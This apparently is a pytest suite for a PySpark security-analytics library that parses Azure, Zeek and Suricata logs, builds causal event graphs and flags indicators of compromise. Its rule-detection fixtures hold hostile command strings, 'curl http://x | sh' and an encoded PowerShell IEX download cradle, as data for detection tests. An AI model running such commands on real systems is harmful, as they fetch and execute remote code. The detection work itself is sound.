"""Parsers, functions, labels, causal edges, telemetry, sources and streams."""

import json

import pytest
from pyspark.sql import functions as F

from tracewright import constants as K
from tracewright.functions import scalars as S
from tracewright.functions import text as X
from tracewright.operators import annotate as N
from tracewright.operators import graph as G
from tracewright.operators import learned as L
from tracewright.operators import reports as P
from tracewright.operators import telemetry as T
from tracewright.operators import training as D
from tracewright.sources import logs as Z
from tracewright.sources import side


def values(spark, builder, *texts):
    df = spark.createDataFrame([(i, t) for i, t in enumerate(texts)], "i int, s string")
    return [r[0] for r in df.orderBy("i").select(builder(F.col("s"))).collect()]


def test_numbers(spark):
    assert values(spark, S.safe_long, "443.0", " 7 ", "x", None, "nan", "inf", "-3.9") == [443, 7, 0, 0, 0, 0, -3]
    assert values(spark, S.safe_double, "1.5", "x", None) == [1.5, 0.0, 0.0]
    assert values(spark, S.csv_list, "a, b,,c", "", None) == [["a", "b", "c"], [], []]


def test_timestamps(spark):
    found = values(spark, S.unix_seconds, "22/04/2025, 13:03:00.020", "2025-12-14 16:00:00.035702944", "2025-12-14T06:16:15.290604-0500", "", "nan", "1765728640", "x")
    assert found[:3] == [1745326980.02, pytest.approx(1765728000.035702, abs=1e-6), pytest.approx(1765710975.290604, abs=1e-6)] and found[3:] == [None] * 4
    assert values(spark, lambda c: S.unix_seconds(c, True), "1765728640") == [1765728640.0]


def test_keys(spark):
    row = spark.range(1).select(
        S.net_key(F.lit("1.2.3.4"), F.lit("80.0")), S.net_key(F.lit("1.2.3.4"), F.lit(None).cast("string")), S.net_key(F.lit("1.2.3.4"), F.lit("80"), F.lit("a.b")), S.net_key(F.lit(None).cast("string"), None, F.lit("a.b")), S.net_key(F.lit(" ")),
        S.host_proc(F.lit("sc1"), F.lit("h")), S.host_proc(F.lit("sc1"), None, F.lit("9.9.9.9")), S.host_proc(F.lit("sc1")), S.file_key(F.lit("")), S.proc_key(F.lit("p"), F.lit(None).cast("string"), F.lit("n")),
    ).first()
    assert list(row) == ["1.2.3.4:80", "1.2.3.4", "a.b|1.2.3.4:80", "a.b", "UNKNOWN_NET", "sc1::h::proc::HOST", "sc1::ip::9.9.9.9::proc::HOST", "sc1::host::UNKNOWN::proc::HOST", "UNKNOWN_FILE", "p::procname::n"]
    assert values(spark, S.port_of_key, "a|1.2.3.4:4444", "x", "1.2.3.4:0", "1.2.3.4:70000", "a:b") == [4444, None, None, None, None]


def test_primary_type_and_stages(spark):
    one = lambda *t: spark.range(1).select(S.primary_type(F.array(*[F.lit(x) for x in t]).cast("array<string>"))).first()[0]
    assert one("attack_ip", "data_exfiltration", "suspicious_port") == "data_exfiltration"
    assert one("zzz", "aaa") == "aaa" and one() == ""
    assert values(spark, S.stage_of_tactic, "Initial Access", "lateral_movement", "x") == ["initial_access_delivery", "discovery_collection", ""]
    lcs = spark.range(1).select(S.lcs_length(F.array(*[F.lit(x) for x in "abcbdab"]), F.array(*[F.lit(x) for x in "bdcaba"]))).first()[0]
    assert lcs == 4


def test_event_data(spark):
    xml = '<Data Name="A">1</Data><data name="A"> 2 &lt;&amp;lt;</data><Data Name="B"></Data>'
    assert values(spark, S.event_data, xml, None) == [{"A": "2 <&lt;", "B": ""}, {}]


def test_text(spark):
    text = "see http://a.b/c and HTTPS://Pypi.org/x pypi.org mail.example.com émail.example.com C:\\x\\y.exe /usr/bin/curl 10.0.0.1 999.1.1.1"
    row = spark.range(1).select(*[c.alias(k) for k, c in X.signals(F.lit(text)).items()], X.paths(F.lit(text)).alias("p"), X.addresses(F.lit(text)).alias("ip")).first()
    assert row.n_urls == 2 and row.has_known_registry_domain and row.top_tld_1 == "com"
    assert row.p == ["C:\\x\\y.exe", "/usr/bin/curl"] and row.ip == ["10.0.0.1"]
    flags = spark.range(1).select(*[c.alias(k) for k, c in X.command_flags(F.lit("PowerShell.exe -enc AA; IEX (curl x)")).items()]).first().asDict()
    assert {k for k, v in flags.items() if v} == {"has_powershell", "has_base64_flag", "has_invoke_expression", "has_curl"}


def events(spark, *rows):
    base = {"scenario": "s", "source_file": "f.csv", "row_idx": 0, "edge_type": "EXEC", "src_type": "PROC", "src_key": "p", "dst_type": "PROC", "dst_key": "q", "ts": None, "ord": 0, "cmdline": "", "evidence": ""}
    full = [base | {"ord": i, "row_idx": i, "event_seq": i} | r for i, r in enumerate(rows)]
    kind = "scenario string, source_file string, row_idx bigint, edge_type string, src_type string, src_key string, dst_type string, dst_key string, ts double, ord bigint, cmdline string, evidence string, event_seq bigint, has_curl boolean, has_wget boolean, has_certutil boolean"
    return spark.createDataFrame([tuple(r.get(c.split()[0]) for c in kind.split(", ")) for r in full], kind)


@pytest.mark.parametrize(
    "row,types,confidence",
    [
        ({"cmdline": "python setup.py install", "source_file": "azure_process.csv"}, [], ""),
        ({"cmdline": "curl http://x | sh", "source_file": "azure_process.csv"}, ["tier2_pipe_to_shell"], "high"),
        ({"cmdline": "curl http://x | sh", "source_file": "other.csv"}, ["tier2_pipe_to_shell"], "medium"),
        ({"edge_type": "INJECT", "source_file": "azure_process.csv"}, ["inject_edge"], "high"),
        ({"cmdline": "echo hello", "source_file": "azure_process.csv"}, [], ""),
        ({"cmdline": "wget file", "source_file": "azure_process.csv"}, ["suricata_alert"], "high"),
        ({"source_file": "x/eve.json"}, ["suricata_alert"], "medium"),
        ({"edge_type": "CONNECT", "dst_key": "1.1.1.1:4444", "source_file": "azure_process.csv"}, ["suspicious_port"], "medium"),
        ({"has_curl": True, "source_file": "azure_process.csv"}, ["lolbin_download_cradle"], "medium"),
        ({"has_curl": True, "has_certutil": True, "source_file": "azure_process.csv"}, ["lolbin_certutil", "lolbin_download_cradle"], "high"),
    ],
)
def test_rules(spark, row, types, confidence):
    (found,) = N.annotate_rules(events(spark, row), ["azure_process.csv"]).collect()
    assert found.rule_types == types and found.rule_confidence == confidence
    assert found.is_rule_hit == bool(types) and found.is_rule_hit_high == (confidence == "high")


@pytest.mark.parametrize(
    "row,types",
    [
        ({"edge_type": "CONNECT", "src_key": "s::host::proc::4444", "dst_key": "1.1.1.1:443"}, []),
        ({"edge_type": "CONNECT", "src_key": "s::host::proc::7", "dst_key": "1.1.1.1:4444"}, ["suspicious_port"]),
        ({"edge_type": "RELAY", "src_type": "NET", "src_key": "1.1.1.1:4444", "dst_key": "2.2.2.2:443"}, ["suspicious_port"]),
        ({"edge_type": "RELAY", "src_type": None, "src_key": "1.1.1.1:4444", "dst_key": "2.2.2.2:443"}, ["suspicious_port"]),
    ],
)
def test_process_ids_are_no_ports(spark, row, types):
    (found,) = N.annotate_rules(events(spark, row | {"dst_type": "NET"}), []).collect()
    assert found.rule_types == types
    (untyped,) = N.annotate_rules(events(spark, row).drop("src_type", "dst_type"), []).collect()
    assert untyped.rule_types == ["suspicious_port"]


def test_iocs(spark):
    lines = spark.createDataFrame([("f.csv", 1, "attack_ip", "v"), ("f.csv", 1, "execution", "w")], "source_file string, line bigint, type string, value string")
    known = spark.createDataFrame([("dns_indicator", "Evil.org"), ("file_artifact", "/tmp/x")], "type string, value string")
    rows = events(spark, {}, {}, {"dst_key": "evil.org|1.2.3.4:80"}, {"cmdline": "run /tmp/x now"}, {})
    found = N.annotate_iocs(rows, lines, known).orderBy("event_seq").collect()
    assert [(r.is_ioc, r.is_ioc_line, r.ioc_type) for r in found] == [(True, True, "execution"), (True, True, "execution"), (True, False, "dns_indicator"), (True, False, "file_artifact"), (False, False, "")]


def test_causal(spark):
    (edge,) = G.causal_edges(events(spark, {"edge_type": "READ", "dst_type": "FILE"}, {"edge_type": "WRITE", "dst_type": "FILE"}), window=100.0).collect()
    assert (edge.src_key, edge.dst_key, edge.delta_t, edge.ord, edge.cause_rule) == ("p", "p", 1.0, 2, "next_event_same_proc")
    rows = events(spark, {"ts": 0.0, "dst_type": "NET", "dst_key": "a"}, {"ts": 10.0, "dst_type": "NET", "dst_key": "b"}, {"ts": 20.0, "dst_type": "NET", "dst_key": "a"}, {"ts": 99.0})
    found = [(r.cause_rule, r.delta_t, r.ord) for r in G.causal_edges(rows, "level1").orderBy("ord").collect()]
    assert found == [("next_event_same_proc", 10.0, 4), ("next_event_same_proc", 10.0, 5), ("shared_object_bridge", 20.0, 6)]
    assert G.augmented(rows, "level0").count() == 6 and G.augmented(rows, "off").count() == 4
    assert [r.edge_type for r in G.mismatched(events(spark, {"dst_type": "NET"}, {})).collect()] == ["EXEC"]


def test_graph(spark):
    rows = events(spark, {"dst_type": "NET", "dst_key": "n", "edge_type": "CONNECT", "ts": 5.0}, {"ts": 1.0})
    found = {r.key: (r.node_type, r.local_id, r.global_id) for r in G.nodes(rows).collect()}
    assert found == {"n": ("NET", 0, 0), "p": ("PROC", 0, 1), "q": ("PROC", 1, 2)}
    stream = G.edge_stream(rows).orderBy("stream_idx").collect()
    assert [(r.src, r.dst, r.t, r.etype) for r in stream] == [(1, 2, 1, 1), (1, 0, 5, 0)] and {len(r.msg) for r in stream} == {27}
    assert G.edge_stream(events(spark, {"ts": 1765728700.0}), "float32").first().t == 1765728640


def test_telemetry():
    catalog = side.catalog({"sc2": {"zeek_conn": True}, "sc3": {"zeek_conn": True, "eve": False}})
    assert not T.supports(catalog, "sc2", "eve") and T.supports(catalog, "sc3", "ids")
    assert list(T.logs_to_read(catalog, "sc3")) == ["zeek_conn"] and T.ioc_files(catalog) == ["zeek_conn.csv"]
    with pytest.raises(ValueError):
        T.normalize("x")


def test_families(spark):
    assert values(spark, T.family_of, "windows/azure_events.csv", "zeek_http.csv", "EVE.json", "x.log", "") == ["audit", "zeek", "eve", None, None]


def stream(spark, types, high, rule):
    rows = [("s", i, t, t, h, r) for i, (t, h, r) in enumerate(zip(types, high, rule))]
    return spark.createDataFrame(rows, "scenario string, row_seq bigint, ioc_type string, rule_ioc_type string, y_rule_high int, y_rule int")


def test_stage_labels(spark):
    s = stream(spark, ["execution", "", "attack_ip"], [1, 0, 1], [1, 0, 1])
    assert [r[0] for r in s.orderBy("row_seq").select(D.stage_label("rule_high")).collect()] == [3, 0, 0]
    assert D.resolve_stage_supervision(stream(spark, ["attack_ip", "execution"], [1, 0], [1, 1]), "rule_high") == ("rule", True)
    assert D.resolve_stage_supervision(stream(spark, ["attack_ip"], [1], [1]), "rule_high") == ("rule_high", False)
    assert D.resolve_stage_supervision(s, "gt_ioc") == ("gt_ioc", True)
    assert D.best_epoch([{"m": 1, "e": 1}, {"m": None, "e": 2}, {"m": 3, "e": 3}, {"m": 3, "e": 4}], "m")["e"] == 3
    assert D.best_epoch([{"m": 2}, {"m": 1}, {"m": 1}, {"m": 9}], "m", 2)["m"] == 2


def test_negatives(spark):
    rows = [("s", i, i, i % 2, i % 5, 10 + i % 4) for i in range(40)]
    edges = spark.createDataFrame(rows, "scenario string, row_seq bigint, t bigint, etype int, src bigint, dst bigint")
    for mode in ("random", "pool", "inbatch", "window"):
        found = D.sampled_negatives(edges, mode, width=100).collect()
        assert len(found) == 12 and all(10 <= r.negative <= 13 for r in found)
    seen = {(r[4], r[3], r[5]) for r in rows}
    fresh = [r for r in D.unseen_negatives(edges).collect() if r.negative is not None]
    assert fresh and all((r.src, r.etype, r.negative) not in seen and r.src != r.negative for r in fresh)


def test_learned(spark):
    rows = [("s", i, i, i % 3, i % 4, 100 + i % 8, 0.0, 0) for i in range(80)]
    edges = spark.createDataFrame(rows, "scenario string, row_seq bigint, t bigint, etype int, src bigint, dst bigint, score double, is_ioc int")
    found = L.link_scores(edges).collect()
    assert len(found) == 24 and all(r.score >= 0 for r in found)
    fitted = L.fit_link(L.link_features(edges).where("NOT is_tail"))
    assert {r.row_seq: r.score for r in L.link_scores(edges, fitted=fitted).collect()} == pytest.approx({r.row_seq: r.score for r in found})
    both = edges.unionByName(edges.withColumn("scenario", F.lit("u")))
    assert {r.scenario for r in L.leave_one_out_scores(both, "u").collect()} == {"u"}
    labelled = edges.withColumn("rule_ioc_type", F.when(F.col("etype") == 1, "execution").otherwise("")).withColumn("y_rule_high", (F.col("etype") == 1).cast("int"))
    stages = L.stage_scores(labelled).collect()
    assert all((r.pred_stage == "execution") == (r.etype == 1) and r.pred_stage_prob > 0.5 for r in stages)
    assert {r.pred_stage for r in L.stage_scores(labelled.withColumn("y_rule_high", F.lit(0))).collect()} == {"none"}
    coded = L.encode_columns(spark.createDataFrame([("a b", 1.0, "x"), (None, 2.0, "y")], "t string, n double, c string"), ["t"], ["n"], ["c"])
    assert coded.first().x_n == [1.0] and coded.first().x_c.size == 3


def test_logs(spark, tmp_path):
    d = tmp_path / "sc3"
    d.mkdir()
    (d / "azure_events.csv").write_text(
        'TimeGenerated [UTC],Computer,EventData,RenderedDescription\n"22/04/2025, 13:03:00.020",h1,"<Data Name=""Image"">C:\\a.exe</Data><Data Name=""ParentImage"">C:\\b.exe</Data><Data Name=""ProcessId"">7</Data><Data Name=""DestinationIp"">1.2.3.4</Data>'
        '<Data Name=""DestinationPort"">80</Data><Data Name=""Initiated"">true</Data>",talked to 5.6.7.8 via /etc/x\n,h2,,\n'
    )
    (d / "azure_conn.csv").write_text("TimeGenerated,Machine,Process,DestinationIp,DestinationPort,BytesSent,Direction\n2025-12-14 16:00:00,m,12,9.9.9.9,443,5,Outbound\n,,,,,,\n")
    (d / "zeek_dns.csv").write_text('ts,id.orig_h,query,answers,uid\n2025-12-14 16:00:00,10.0.0.1,a.b,"1.1.1.1, ,2.2.2.2",u\n,,,,\n')
    (d / "zeek_files.csv").write_text("ts,id.orig_h,filename,sha256,total_bytes,fuid\n,,,AB,7,F1\n,,n.txt,,x,\n")
    (d / "zeek_ssl.csv").write_text("ts,id.orig_h,id.resp_h,id.resp_p,server_name,version\n,1.1.1.1,2.2.2.2,443,a.b,TLSv12\n")
    lines = [{"event_type": "http", "src_ip": "1.1.1.1", "dest_ip": "2.2.2.2", "dest_port": 80, "http": {"status": 302, "length": 9}}, None, {"event_type": "dns"}, {"event_type": "alert", "alert": {"signature": "ET x"}}, {"event_type": "fileinfo", "fileinfo": {"filename": "/f", "size": 3}}]
    (d / "eve.json").write_text("\n".join("{bad" if x is None else json.dumps(x) for x in lines) + "\n\n")
    every = side.catalog({"sc3": {k: True for k in ("azure_conn", "azure_events", "zeek_dns", "zeek_files", "zeek_ssl", "eve", "zeek_http")}})
    found = Z.load_scenario(spark, str(tmp_path), every, "sc3").orderBy("event_seq").collect()
    by = lambda log: [r for r in found if r.log == log]
    a = by("azure_events")
    assert [(r.edge_type, r.dst_key) for r in a] == [("EXEC", "sc3::h1::proc::7"), ("WRITE", "C:\\a.exe"), ("CONNECT", "1.2.3.4:80"), ("CONNECT", "5.6.7.8"), ("WRITE", "/etc/x")]
    assert a[0].src_key == "sc3::h1::procname::C:\\b.exe" and a[0].ts == 1745326980.02 and a[2].direction == "outbound" and a[3].src_key == "sc3::h1::proc::7"
    c = by("azure_conn")
    assert [r.dst_key for r in c] == ["9.9.9.9:443", "UNKNOWN_NET"] and c[0].bytes_sent == 5 and c[0].direction == "outbound" and c[1].src_key == "sc3::host::UNKNOWN::proc::UNKNOWN"
    assert [(r.edge_type, r.dst_key) for r in by("zeek_dns")] == [("DNS_QUERY", "a.b"), ("RESOLVE", "1.1.1.1"), ("RESOLVE", "2.2.2.2"), ("DNS_QUERY", "UNKNOWN_NET")]
    assert [(r.dst_key, r.bytes) for r in by("zeek_files")] == [("sc3::file::F1", 7), ("n.txt", 0)] and by("zeek_files")[0].sha256 == "ab"
    assert by("zeek_ssl")[0].dst_key == "a.b|2.2.2.2:443" and by("zeek_ssl")[0].tls_version == "TLSv12"
    assert [(r.row_idx, r.edge_type) for r in by("eve")] == [(0, "CONNECT"), (0, "REDIRECT"), (2, "EXEC"), (3, "WRITE")]
    assert len({r.event_seq for r in found}) == len(found)
    assert Z.load_scenario(spark, str(tmp_path), every, "sc3", "zeek", limit=1).count() == 3 + 1 + 1
    assert Z.load_scenario(spark, str(tmp_path), side.catalog({"sc9": {"eve": True}}), "sc9") is None


def test_zeek_http_redirects_to_itself(spark):
    rows = spark.createDataFrame([("s", "f", 0, "1.1.1.1", "2.2.2.2", "80", "301", "h")], "scenario string, source_file string, row_idx bigint, `id.orig_h` string, `id.resp_h` string, `id.resp_p` string, status_code string, host string")
    found = Z.zeek_http(rows).orderBy("part").collect()
    assert [(r.edge_type, r.src_key == r.dst_key) for r in found] == [("CONNECT", False), ("REDIRECT", True)]


def test_side_inputs(spark, tmp_path):
    truth = {"sc1": {"files": {"f.csv": {"iocs": [{"type": "attack_ip", "value": "1.1.1.1", "lines": [3, 4]}, {"type": "execution", "value": "x", "lines": [3]}, {"type": "", "value": "y"}]}}}}
    (tmp_path / "gt.json").write_text(json.dumps(truth))
    lines, known = side.ground_truth(spark, str(tmp_path / "gt.json"))
    assert {(r.line, r.ioc_type) for r in side.line_types(lines).collect()} == {(3, "execution"), (4, "attack_ip")} and known.count() == 2
    (tmp_path / "sc1").mkdir()
    (tmp_path / "sc1" / "layer.json").write_text(json.dumps({"techniques": [{"techniqueID": "T1", "tactic": "execution"}]}))
    assert [tuple(r) for r in side.layers(spark, str(tmp_path), "layer*.json").collect()] == [("sc1", "T1", "execution")]
    (tmp_path / "rules.json").write_text(json.dumps({"version": 3}))
    assert side.rules(spark, str(tmp_path / "rules.json"))["version"] == 3 and side.rules() is K.RULES
    scores = spark.createDataFrame([("s", 1, 0, 1, 2, 0.5, 1, "f", 9, "x", None, None)], side.SCORES)
    side.write_scores(scores, str(tmp_path / "run" / "edge_scores.csv"))
    back = side.scores(spark, side.scores_path(spark, str(tmp_path / "run"))).first()
    assert (back.row_idx, back.row_seq, back.t, back.score) == (9, 0, 1, 0.5)
    assert side.scores_path(spark, str(tmp_path)) is None


def test_reports(spark, tmp_path):
    for i, sc in enumerate(("sc1", "sc2")):
        (tmp_path / f"run_{sc}").mkdir()
        (tmp_path / f"run_{sc}" / "run_summary.json").write_text(json.dumps({"best": {"auroc": None if i else 0.5}}))
    runs = P.fields(P.run_files(spark, str(tmp_path)), {"auroc": "$.best.auroc"})
    assert {r.scenario: r.auroc for r in runs.collect()} == {"sc1": "0.5", "sc2": None}
    table = P.macro_average(runs.withColumn("m", F.lit("x")), ["m"], ["auroc"])
    assert table.first().auroc == 0.5 and table.first().n_na_auroc == 1 and "0.5000" in P.latex_table(table, "m", ["auroc"])


def test_streams(spark, tmp_path):
    from tracewright.streaming import events as V

    spark.sql("SELECT timestampadd(SECOND, CAST(id * 1000 AS INT), TIMESTAMP'2024-01-01') AS ts, id AS event_id, id % 3 AS user_id, 'view' AS event_type, CAST(id AS DOUBLE) AS value, '{}' AS props FROM range(30)").unionAll(
        spark.sql("SELECT TIMESTAMP'2024-01-01' AS ts, 0L AS event_id, 0L AS user_id, 'view' AS event_type, 0D AS value, '{}' AS props")
    ).coalesce(1).write.parquet(str(tmp_path / "in"))

    def rows(df, name, mode="append"):
        query = df.writeStream.format("memory").queryName(name).outputMode(mode).option("checkpointLocation", str(tmp_path / name)).start()
        query.processAllAvailable()
        query.stop()
        return spark.table(name).collect()

    source = lambda: V.read_events(spark, str(tmp_path / "in"))
    assert len(rows(V.deduplicated(source()), "once")) == 30
    assert sum(r.n for r in rows(V.hourly_counts(source()), "hours", "complete")) == 31
    windows = rows(V.greedy_windows(source().select(F.lit("s").alias("scenario"), "ts", F.col("value").alias("score")), 3600), "greedy")
    assert [(r.n, r.best) for r in sorted(windows, key=lambda r: r.start_us)][:2] == [(5, 3.0), (4, 7.0)]


def test_defaults_and_catalogue(spark):
    found = G.with_defaults(events(spark, {"edge_type": "CONNECT", "cmdline": None}, {"cmdline": None})).orderBy("event_seq").collect()
    assert (found[0].bytes_sent, found[0].direction, found[0].cmdline) == (0, "", None) and (found[1].cmdline, found[1].bytes_sent) == ("", None)
    known = side.known_scenarios()
    assert known["sc6"]["azure_events"]["filename"] == "victim/azure_events.csv" and not T.supports(known, "sc2", "eve") and T.supports(known, "sc3", "eve")
    assert ("sc2", "azure_events.csv") in Z.missing_logs(spark, "/nowhere", known)


def test_methods(spark):
    from tracewright.operators import evaluate as E

    rows = [("s", i, i, i % 3, i % 4, 100 + i % 8, int(i % 5 == 0), "zeek_conn.csv" if i % 2 else "eve.json", i, "execution") for i in range(80)]
    s = spark.createDataFrame(rows, "scenario string, row_seq bigint, t bigint, etype int, src bigint, dst bigint, is_ioc int, source_file string, row_idx bigint, ioc_type string")
    found = {r.method: r for r in E.compare(s, ["freq_rarity", "random", "graphsage", "rgcn"], ["execution"]).collect()}
    assert {r.n_tail for r in found.values()} == {24} and all(r.stage_recall_500 == 1.0 and 0 <= r.roc_auc <= 1 for r in found.values())
    assert E.score_tail(s, "path_lof", "zeek").count() == 12
    with pytest.raises(ValueError):
        E.score_tail(s, "x")


def test_command_line(spark, tmp_path):
    from tracewright.__main__ import arguments

    o = arguments(["alerts", "--scores", "a", "--out", "b", "--top", "5"])
    assert (o.window, o.quantile, o.min_events, o.top) == (3600, 0.99, 3, 5)
    root = tmp_path / "logs" / "sc5"
    root.mkdir(parents=True)
    (root / "azure_events.csv").write_text('TimeGenerated,Computer,EventData,Message\n2025-12-14 16:00:00,h,,"evil at 6.6.6.6"\n2025-12-14 16:00:09,h,,"curl http://x | sh /tmp/y"\n')
    (tmp_path / "gt.json").write_text(json.dumps({"sc5": {"files": {"azure_events.csv": {"iocs": [{"type": "attack_ip", "value": "6.6.6.6", "lines": []}]}}}}))
    found = Z.load_annotated(spark, str(tmp_path / "logs"), side.known_scenarios(), "sc5", str(tmp_path / "gt.json")).orderBy("event_seq").collect()
    assert [(r.edge_type, r.is_ioc, r.is_rule_hit_high) for r in found] == [("CONNECT", True, False), ("WRITE", False, True)]


def test_node_memory(spark, tmp_path):
    from tracewright.streaming import events as V

    spark.sql("SELECT TIMESTAMP'2024-01-01 00:00:00' AS ts, 1L AS event_id, 7L AS user_id, 'v' AS event_type, 1D AS value, '' AS props UNION ALL SELECT TIMESTAMP'2024-01-01 01:00:00', 2L, 7L, 'v', 1D, ''").coalesce(1).write.parquet(str(tmp_path / "in"))
    edges = V.read_events(spark, str(tmp_path / "in")).select(F.col("user_id").alias("node"), "ts", F.lit(1.0).alias("weight"))
    query = V.node_memory(edges).writeStream.format("memory").queryName("memory").outputMode("update").option("checkpointLocation", str(tmp_path / "c")).start()
    query.processAllAvailable()
    query.stop()
    assert [(r.node, r.activity) for r in spark.table("memory").collect()] == [(7, 1.5)]
